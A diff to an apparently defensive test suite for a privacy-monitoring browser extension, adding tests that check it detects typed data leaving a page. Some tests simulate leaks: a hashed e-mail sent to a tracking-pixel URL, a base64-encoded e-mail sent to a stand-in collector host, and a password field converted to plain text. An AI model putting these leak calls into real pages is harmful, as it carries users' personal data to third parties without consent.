@@ -171,7 +171,11 @@ test("a password is in no journal, no log and no storage", async () => {
   const { page, asker } = watched;
   await page.type("[name=reason]", "beside-the-password");
   await page.type("[name=pw]", PASSWORD);
+  // As many pages offer: to show what was typed.
+  await page.evaluate(() => Object.assign(document.querySelector("[name=pw]"), { type: "text", name: "x", autocomplete: "off" }).closest("label").firstChild.remove());
+  await page.type("[name=x]", "!");
   await page.click("#intake button");
+  await until(async () => (await told("typed")).filter((one) => one.about === "password\tx\t\toff").length > 0, "what was typed after that");
   const line = await until(async () => (await told("typed")).find((one) => one.about.startsWith("password\t")), "that there is one");
   assert.deepEqual([line.secret, line.value], [true, ""]);
   await watched.covered();
@@ -277,4 +281,33 @@ test("a persona is filled in, to be seen, and nothing is sent by it", async () =
   await page.goto(`https://${SITE}/next`, { waitUntil: "load" });
   assert.deepEqual(await watched.ask({ type: "fill", tab: watched.tab, persona: "jordan" }), { ok: false, error: "This page shows no field to fill in." });
   assert.deepEqual(await watched.ask({ type: "persona", persona: { id: "jordan" }, on: false }), { ok: true });
+});
+
+test("what is typed becomes known, and is found where it leaves in disguise; its field is outlined", async () => {
+  const { page } = watched;
+  const reader = await ShadowReader.on(page);
+  await page.type("[name=email]", EMAIL);
+  const view = await watched.untilView((v) => v.known.some((one) => one.what.toLowerCase() === "e-mail address"), "the address to be known");
+  assert.deepEqual(view.known.flatMap((one) => one.left), [], "clean twin: nothing left yet");
+  assert.ok(!(await watched.export("report")).includes(EMAIL), "masked in what may be written to disk");
+  await page.click("#intake button");
+  await page.evaluate(async (mail) => {
+    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(mail)));
+    const hex = [...digest].map((byte) => byte.toString(16).padStart(2, "0")).join("");
+    await fetch(`https://www.facebook.com/tr/?id=1&ev=Lead&ud[em]=${hex}`, { mode: "no-cors" });
+  }, EMAIL);
+  const left = await watched.untilView((v) => v.known.some((one) => one.left.length > 0), "that it left");
+  assert.match(left.known.find((one) => one.left.length > 0).left[0].how, /SHA-256/);
+  await reader.until((elements) => elements.some((e) => e.tag === "span" && e.text === "sent to another company"), { what: "the outline" });
+});
+
+test("what was typed is known again after the worker was ended; a password is not", async () => {
+  const { page } = watched;
+  await page.type("[name=email]", EMAIL);
+  await page.type("[name=pw]", PASSWORD);
+  await watched.untilView((v) => v.known.length >= 2, "both to be known");
+  await watched.covered();
+  await it.browser.killWorker();
+  await page.evaluate((mail) => fetch(`https://collector.example/?q=${btoa(mail)}`, { mode: "no-cors" }).then(() => {}), EMAIL);
+  await watched.untilView((v) => v.known.some((one) => one.left.length > 0), "that it left, told by the new worker");
 });
